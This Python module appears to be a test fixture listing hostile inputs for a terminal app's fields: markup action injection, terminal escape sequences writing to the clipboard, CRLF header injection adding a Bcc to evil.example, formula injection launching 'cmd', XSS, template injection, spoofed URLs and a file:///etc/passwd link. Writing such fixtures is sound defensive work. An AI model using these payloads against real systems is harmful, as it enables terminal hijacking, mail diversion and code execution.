"""Texts, addresses and links that try something, for every field somebody else fills in."""

from __future__ import annotations

MARK = "pwned"
TEXTS = (
    "[@click=app.quit]Anna[/]",
    f"[@click=app.screenshot('{MARK}.svg','.')]Ben[/]",
    "[@click=app.simulate_key('S')]Cleo[/]",
    "[@click=\"app.open_url('https://evil.example')\"]Dora[/]",
    "[link=https://evil.example]Emil[/link]",
    "[/]",
    "[b",
    "[@click=app.bell",
    '[$foo]x[/] [on red]y [@click=app.quit("]")]z[/]',
    f"\x1b]52;c;{MARK}\x07Fay\x1b[2J\x1b[31m",
    f"\x1b]8;;https://evil.example/{MARK}\x1b\\Gus\x1b]8;;\x1b\\",
    f"\x1b]0;{MARK}\x07Hal",
    f"\x1b]52;c;{MARK}",  # never ended
    "\x9b2JIda\x9d52;c;x\x9c\x90q\x85\x8d",
    "Jo\x00\x08\x0b\x0c\x7fe",
    "Kim\u202ennA\u2066x\u200f\u061c",
    "L\u200bi\u200c\u2060\ufeffs\U000e0041a",
    "M" + "\u0301" * 400 + "o",
    "N" * 1_000_000,
    f"Otto\r\nBcc: {MARK}@evil.example\r\n\r\nHello",
    f"Pia\nX-{MARK}: 1",
    f"=?utf-8?q?Q=0D=0ABcc:_{MARK}=40evil.example?=",
    '=HYPERLINK("https://evil.example","Rae")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\"><a href='https://evil.example'>Sam</a>",
    "{{ 7*7 }}{% for x in range(9**9) %}{{ ''.__class__ }}{% endfor %}",
    "[Tia](https://evil.example) ![x](https://evil.example/p.png) <https://evil.example>",
    "\u2028Uwe\u2029\ud800"[:-1],
    "%s%n%x {0} {x!r}",
)
URLS = (
    "javascript:alert(1)",
    "https://evil.example/checkout/order-pay/1/?pay_for_order=true&key=wc_order_1",
    "{shop}@evil.example/pay",
    "https://127.0.0.1@evil.example/",
    "http://127.0.0.1.evil.example/",
    "http://127.0.0.1:1/",
    "//evil.example/x",
    "http:\\\\evil.example",
    "{shop}.evil.example/",
    "http://127.0.0.1%2eevil.example/",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "http://\u0561\u0440\u0440le.example/",
    "{shop}/x\r\nBcc: evil@evil.example",
)
EMAILS = (
    "[@click=app.quit]a[/]@evil.example",
    "'[@click=app.quit]'@evil.example",
    "[/]@evil.example",
    f"\x1b]52;c;{MARK}\x07a@evil.example",
    "a\x9b2Jb@evil.example",
    f"a@evil.example\r\nBcc: {MARK}@evil.example",
    "a@evil.example,b@evil.example",
    "=?utf-8?q?a=0D=0ABcc:_b?=@evil.example",
    "=cmd|'x'!a0@evil.example",
    "+1@evil.example",
    "\u202emoc.elpmaxe@live.example",
    "a\u200bb@\u0430\u0440\u0440le.example",
    "{{7*7}}@evil.example",
    "a@" + "b" * 100_000 + ".example",
)
SHORT = ("\x1b]", "[/", "\u202e.", "\x9b2", "=", "[b", "\x07", "\r\n")
SERVER_WORDS = (
    "[@click=app.quit]No[/]",
    "[/] [b",
    f"\x1b]52;c;{MARK}\x07 \x1b]0;{MARK}\x1b\\ \x1b]8;;https://evil.example\x1b\\x",
    "\x9b2J \x9d52;c;x\x9c \x1b[2J \x1bP1$q\x1b\\",
    "\u202eesrever\u2066 \u200b\ufeff\u2028",
    "=HYPERLINK(1) \x00\x08\x07",
)
SAID = " ".join(SERVER_WORDS)
"""What a mail server, a mailbox or a shop says when it refuses: all of it on one line."""
